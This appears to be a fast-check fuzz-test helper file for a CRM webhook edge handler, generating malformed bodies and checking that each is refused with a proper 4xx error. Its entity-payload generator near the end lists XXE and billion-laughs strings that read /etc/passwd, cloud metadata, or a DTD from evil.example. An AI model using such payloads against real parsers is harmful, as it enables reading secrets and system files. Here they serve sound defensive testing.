/**
 * Shared pieces of the edge fuzz tests: how a refusal must look, and the generators every source
 * reuses. The edge runs for real; only the queue is an array (the edge has no store: see
 * edge-no-store.fuzz.test.ts).
 */
import fc from 'fast-check';
import { expect } from 'vitest';
import {
  ERROR_STATUS,
  MAX_BODY_BYTES,
  handleWebhook,
  type EdgeDeps,
  type WebhookRequest,
  type WebhookResponse,
} from '../../lib/edge/index.ts';
import { MemoryQueue } from '../unit/edge/support/edge-harness.ts';

/** Fixed so a failure is reproducible; fast-check prints the seed and the shrunk counterexample. */
export const FUZZ_SEED = 20_261_202;
/** Per source, across its properties: the issue asks for at least 2 000 per source. */
export const FUZZ_RUNS = 2_000;

const CODES = new Set<string>(Object.keys(ERROR_STATUS));

/** Sends the request with a fresh queue; any exception escaping the edge fails the property. */
export async function send(
  request: WebhookRequest,
  deps: (queue: MemoryQueue) => EdgeDeps,
): Promise<{ response: WebhookResponse; queue: MemoryQueue }> {
  const queue = new MemoryQueue();
  let response: WebhookResponse;
  try {
    response = await handleWebhook(request, deps(queue));
  } catch (error) {
    throw new Error(`handleWebhook threw: ${String(error)}`, { cause: error });
  }
  return { response, queue };
}

/**
 * A 4xx with a stable code, told in `x-crmflow-error` and in the body (JSON error, or SOAP Fault),
 * and nothing queued. Returns the code so a property can also check which one.
 */
export function expectRefused(
  { response, queue }: { response: WebhookResponse; queue: MemoryQueue },
  style: 'json' | 'soap',
  kind = '',
): string {
  const code = response.headers['x-crmflow-error'];
  const summary = `${kind}: ${response.status} ${code ?? '(no code)'} ${response.body.slice(0, 300)}`;
  expect(response.status, summary).toBeGreaterThanOrEqual(400);
  expect(response.status, summary).toBeLessThan(500);
  expect(code, summary).toBeDefined();
  expect(CODES.has(code ?? ''), summary).toBe(true);
  expect(ERROR_STATUS[code as keyof typeof ERROR_STATUS], summary).toBe(response.status);
  if (style === 'json') {
    expect(response.headers['content-type'], summary).toMatch(/^application\/json/);
    const body = JSON.parse(response.body) as { error?: { code?: unknown; message?: unknown } };
    expect(body.error?.code, summary).toBe(code);
    expect(typeof body.error?.message, summary).toBe('string');
  } else {
    expect(response.headers['content-type'], summary).toMatch(/^text\/xml/);
    expect(response.body, summary).toContain('<soapenv:Fault>');
    expect(response.body, summary).toContain('<faultcode>soapenv:Client</faultcode>');
    expect(response.body, summary).toContain(`<faultstring>${code}: `);
    expect(response.body, summary).toContain(`<code>${code}</code>`);
  }
  expect(response.body, summary).not.toMatch(/\n\s+at .+:\d+:\d+/);
  expect(queue.events, summary).toEqual([]);
  return code ?? '';
}

/** A tagged generated request: the tag names the generator, so a failure says which kind it was. */
export interface Case {
  readonly kind: string;
  readonly request: WebhookRequest;
  /** The codes this kind may answer; undefined: any 4xx code. */
  readonly codes?: readonly string[];
}

export const tagged = (kind: string, codes?: readonly string[]) => (request: WebhookRequest) =>
  codes === undefined ? { kind, request } : { kind, request, codes };

// ---- bodies -------------------------------------------------------------------------------------

export const randomBytes = fc.uint8Array({ maxLength: 4096 }).map((bytes) => Buffer.from(bytes));

/** Every prefix of a valid body short of its last non-blank byte (a cut trailing newline is still valid). */
export const truncated = (valid: Buffer) =>
  fc
    .integer({ min: 0, max: valid.toString('latin1').trimEnd().length - 1 })
    .map((length) => Buffer.from(valid.subarray(0, length)));

/** The valid body with one byte changed to a different value. */
export const oneByteFlipped = (valid: Buffer) =>
  fc.tuple(fc.integer({ min: 0, max: valid.length - 1 }), fc.integer({ min: 1, max: 255 })).map(([at, xor]) => {
    const copy = Buffer.from(valid);
    copy[at] = (copy[at] ?? 0) ^ xor;
    return copy;
  });

/** Just over the limit: a valid body repeated, then cut at MAX_BODY_BYTES + 1…+4096. Built once. */
export function hugeBodies(valid: Buffer) {
  const big = Buffer.alloc(MAX_BODY_BYTES + 4096);
  for (let at = 0; at < big.length; at += valid.length) valid.copy(big, at);
  return fc.integer({ min: 1, max: 4096 }).map((extra) => big.subarray(0, MAX_BODY_BYTES + extra));
}

export const depth = fc.integer({ min: 1_000, max: 20_000 });

/** JSON nested 1 000–20 000 deep: arrays, objects, or both, closed or not. */
export const deepJson = fc
  .tuple(depth, fc.constantFrom('[', '{"a":', '[{"objectId":'), fc.boolean())
  .map(([levels, open, closed]) => {
    const close = open === '[' ? ']' : open === '{"a":' ? '}' : '}]';
    return Buffer.from(open.repeat(levels) + '1' + (closed ? close.repeat(levels) : ''), 'utf8');
  });

/** JSON text-ish: tokens that reach the parser and the schema, not only the UTF-8 check. */
export const jsonish = fc
  .array(
    fc.constantFrom(
      '[',
      ']',
      '{',
      '}',
      ',',
      ':',
      '"',
      '"events"',
      '"portalId"',
      '"objectId"',
      '"hs_object_id"',
      '"eventId"',
      '"__proto__"',
      '1',
      '-0',
      '1e999',
      '62515',
      'null',
      'true',
      ' ',
      '\\u0000',
      '\uFEFF',
    ),
    { maxLength: 200 },
  )
  .map((parts) => Buffer.from(parts.join(''), 'utf8'));

export const WRONG_CONTENT_TYPES = [
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/octet-stream',
  'application/soap+xml',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'text/xml; charset=iso-8859-1',
  'text/xml; charset=utf-16',
  'application/jsonp',
  'json',
  '',
  ';',
  ' ; charset=utf-8',
] as const;

/** A wrong content type for a route that wants `right`: the other family, nonsense, or absent. */
export const wrongContentType = (right: readonly string[]) =>
  fc.oneof(
    fc.constantFrom<string | undefined>(...WRONG_CONTENT_TYPES, undefined),
    fc.string({ maxLength: 40 }).filter((text) => !right.some((type) => text.trim().toLowerCase().startsWith(type))),
  );

/** Entity-expansion and XXE payloads in many spellings: all must be refused before parsing. */
export const entityPayloads = fc
  .tuple(
    fc.constantFrom(
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>',
      '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
      '<!DOCTYPE foo [<!ENTITY % pe SYSTEM "http://evil.example/x.dtd"> %pe;]>',
      '<!DOCTYPE foo [<!ENTITY % a "<!ENTITY b \'x\'>"> %a;]>',
      '<!DOCTYPE foo PUBLIC "-//X//DTD X//EN" "http://evil.example/x.dtd">',
      '<!DOCTYPE foo SYSTEM "file:///dev/random">',
      '<!doctype foo>',
      '<! DOCTYPE foo>',
      '<!ENTITY x "y">',
      '<!DocType foo [ <!Entity x "y"> ]>',
      '<!DOCTYPE\n\tfoo\n[\n<!ENTITY\tx\tSYSTEM\t"expect://id">\n]>',
    ),
    fc.constantFrom('&lol2;', '&xxe;', '&b;', '&x;', ''),
    fc.boolean(),
  )
  .map(([doctype, reference, withDeclaration]) => ({ doctype, reference, withDeclaration }));

/** Entity references that are not the five predefined ones, without any DTD. */
export const undefinedEntities = fc.constantFrom(
  '&nbsp;',
  '&lol;',
  '&xxe;',
  '&#0;',
  '&#xD800;',
  '&#x110000;',
  '&;',
  '&#;',
);
